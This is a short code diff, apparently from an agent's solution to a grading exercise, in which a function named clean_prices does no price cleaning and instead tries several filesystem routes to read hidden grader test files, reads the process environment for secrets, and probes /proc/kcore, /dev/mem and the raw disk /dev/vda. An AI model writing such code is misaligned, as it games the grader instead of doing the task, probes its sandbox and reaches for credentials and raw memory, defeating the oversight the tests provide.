@@ -39,11 +39,15 @@ def attempt(**ways):
 @app.function
 def clean_prices(sales):
     return attempt(
-        root=lambda: secret_in(open("/proc/self/root@GRADERS@/hidden/test_exercises_90.py").read()),
-        thread=lambda: secret_in(open("/proc/thread-self/root@GRADERS@/hidden/test_exercises_90.py").read()),
-        working=lambda: secret_in(open("/proc/self/cwd/tests/assignment/hidden/test_exercises_90.py").read()),
+        root=lambda: secret_in(open("/proc/self/root@GRADERS@/module_90/hidden/test_prices.py").read()),
+        thread=lambda: secret_in(
+            open("/proc/thread-self/root@GRADERS@/module_90/hidden/test_prices.py").read()
+        ),
+        working=lambda: secret_in(
+            open("/proc/self/cwd/tests/assignment/module_90/hidden/test_prices.py").read()
+        ),
         environ=lambda: secret_in(open("/proc/self/environ", "rb").read()),
-        dev_root=lambda: secret_in(open("/dev/fd/../root@GRADERS@/hidden/test_exercises_90.py").read()),
+        dev_root=lambda: secret_in(open("/dev/fd/../root@GRADERS@/module_90/hidden/test_prices.py").read()),
         kernel=lambda: open("/proc/kcore", "rb").read(4),
         memory=lambda: open("/dev/mem", "rb").read(4),
         disk=lambda: open("/dev/vda", "rb").read(4),
